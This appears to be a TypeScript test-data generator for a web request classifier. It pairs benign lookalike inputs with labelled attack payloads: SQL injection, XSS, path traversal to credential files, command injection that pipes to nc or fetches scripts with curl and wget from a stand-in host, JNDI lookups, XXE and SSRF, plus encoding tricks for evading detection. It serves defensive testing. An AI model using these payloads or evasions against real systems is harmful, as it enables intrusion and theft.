/**
 * Requests as a site's visitors and its attackers send them, by seed. Written apart from the generator that the shipped model
 * learns from, and sharing nothing with it: what only knows its own training falls through here.
 */
import { makeRandom } from "@cordon/engine/learning/random";

export interface SentValue {
  readonly value: string;
  /** `benign` or the kind of attack. */
  readonly kind: string;
}

const PEOPLE = [
  "Siobhán O'Dwyer",
  "Renée D'Souza",
  "François L'Heureux",
  "Mary-Ann O'Shea",
  "Tariq al-'Umari",
  "Kim Cattrall",
  "Jürgen Groß",
  "T'Pol",
  "Giulia Dell'Orto",
  "Sinéad",
];
const THINGS = [
  "union jack mug",
  "drop leaf table",
  "select comfort bed",
  "sleep tracker",
  "having a party",
  "1/2 inch bolt",
  "cat & dog food",
  "C:\\ drive cable",
  "echo show 8",
  "id holder",
  "exec chair",
  "order form",
  "like new sofa",
  "null modem",
  "script lichen",
  "alert collar",
];
const PROSE = [
  "I'd like to order from where I left off, and select a table",
  "Can't log in; it says 'invalid' or 'expired'",
  "The union (est. 1901) and its members",
  "Use SELECT name FROM users to list them, says the manual",
  "5 < 7 and 7 > 5",
  "price >= 10 && price <= 20",
  "Rock & Roll; Blues | Jazz",
  "see /var/tmp or ~/notes.txt",
  "50% off -- today only!",
  "if you're not sure, don't",
  "\"quoted\" and 'quoted' text",
  "<3 this <3",
  "update: we drop by at 5; insert coin",
  "What does etc/ mean?",
  'he said: "it\'s fine" -- and left',
];
const CODE = [
  "for i in range(10): print(i)",
  "const x = a ? b : c;",
  "SELECT 1",
  "<em>hello</em>",
  "#include <stdio.h>",
  "a[i] = b[j] + 1;",
  "x => x.id",
  "git log --oneline",
  "../styles/main.css",
  "{{ user.name }}",
  "a && b || c",
  "foo(bar, 'baz')",
];
const BLOBS = [
  '{"a":[1,2],"q":"it\'s"}',
  "filter[price][gte]=10",
  "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln",
  "dGhpcyBpcyBwbGFpbiB0ZXh0",
  "2026-11-22T10:00:00+01:00",
  "a,b;c|d",
  "/2024/03/report (final).pdf",
  "https://shop.example/p?id=1&ref=a'b",
  "x'); y",
  "10.1.2.3",
  "user@host.internal",
];

const ATTACKS: Readonly<Record<string, readonly string[]>> = {
  sqli: [
    "7' AND 7=7 -- k",
    "z') OR ('q'='q",
    "3 UNION SELECT login,pw FROM accounts",
    "0 OR SLEEP(4)",
    "a';DELETE FROM logs;--",
    "9 AND (SELECT COUNT(*) FROM sysobjects)>0",
    '" OR ""="',
    "5 ORDER BY 9--",
    "k' AND ASCII(SUBSTR((SELECT pw FROM accounts),1,1))>64--",
    "1;WAITFOR DELAY '00:00:04'--",
  ],
  xss: [
    "<script>top.location='//e.test'</script>",
    "<img src=q onerror=confirm(7)>",
    '"><svg onload=prompt(2)>',
    "javascript:alert(7)",
    "' onfocus='alert(3)' autofocus='",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<body onpageshow=alert(4)>",
    "</textarea><script>alert(5)</script>",
  ],
  "path-traversal": [
    "../../../../etc/shadow",
    "..\\..\\..\\windows\\system.ini",
    "/var/www/../../etc/passwd",
    "....//....//etc/hosts",
    "../../../../../../proc/self/cmdline",
    "php://filter/read=convert.base64-encode/resource=index",
    "file:///etc/group",
  ],
  cmdi: [
    "8.8.8.8; cat /etc/passwd",
    "a | nc 10.9.8.7 4444",
    "x && whoami",
    "$(curl e.test/x.sh)",
    "`uname -a`",
    "q; ping -c 4 10.9.8.7",
    "a || wget e.test/p",
    "| dir c:\\",
  ],
  template: ["{{8*8}}", "\u0024{9*9}", "<%= 6*7 %>", "{{cycler.__init__.__globals__}}"],
  lookup: ["\u0024{jndi:ldap://e.test/q}", "\u0024{j\u0024{lower:n}di:rmi://e.test/z}"],
  xxe: ['<!DOCTYPE q [<!ENTITY z SYSTEM "file:///etc/hostname">]><q>&z;</q>'],
  ssrf: ["http://127.0.0.1:8500/v1/agent", "http://169.254.169.254/latest/user-data", "http://[::1]:9200/"],
};

const marks = (text: string): string =>
  text.replace(/[^A-Za-z0-9]/g, (char) =>
    char.charCodeAt(0) < 128 ? `%${char.charCodeAt(0).toString(16).padStart(2, "0")}` : char,
  );
const swapped = (text: string): string =>
  [...text].map((char, at) => (at % 2 === 0 ? char.toLowerCase() : char.toUpperCase())).join("");
const DISGUISES: readonly ((text: string, kind: string) => string)[] = [
  (text) => text,
  marks,
  (text) => marks(marks(text)),
  // Case matters to shells, templates and look-ups.
  (text, kind) => (kind === "sqli" || kind === "xss" ? swapped(text) : text),
  (text, kind) => (kind === "sqli" ? text.replaceAll(" ", "/**/") : text),
  (text, kind) => (kind === "sqli" ? text.replaceAll(" ", "\t") : text),
  (text, kind) => (kind === "path-traversal" ? text.replaceAll("../", "..%c0%af") : text),
  (text, kind) => (kind === "xss" ? text.replaceAll("<", "&lt;").replaceAll("(", "&#40;") : text),
];

/** Every attack in every disguise that changes it. */
export function attackValues(): readonly SentValue[] {
  return Object.entries(ATTACKS).flatMap(([kind, plain]) =>
    plain.flatMap((text) =>
      [...new Set(DISGUISES.map((disguise) => disguise(text, kind)))].map((value) => ({ value, kind })),
    ),
  );
}

export function benignValues(seed: number, count: number): readonly SentValue[] {
  const random = makeRandom(seed);
  const pick = (from: readonly string[]): string => from[random.below(from.length)] ?? "";
  const makers = [
    () => pick(PEOPLE),
    () => `${pick(PEOPLE)} & ${pick(PEOPLE)}`,
    () => pick(THINGS),
    () => `${pick(THINGS)} ${random.below(500)}`,
    () => pick(PROSE),
    () => `${pick(PROSE)} ${pick(PROSE)}`,
    () => pick(CODE),
    () => pick(BLOBS),
    () => String(random.below(1e9)),
    () => `${pick(PEOPLE).split(" ")[0]}${random.below(100)}@example.org`,
  ];
  return Array.from({ length: count }, (_, at) => {
    const value = makers[at % makers.length]?.() ?? "";
    return { value: random.below(4) === 0 ? marks(value) : value, kind: "benign" };
  });
}
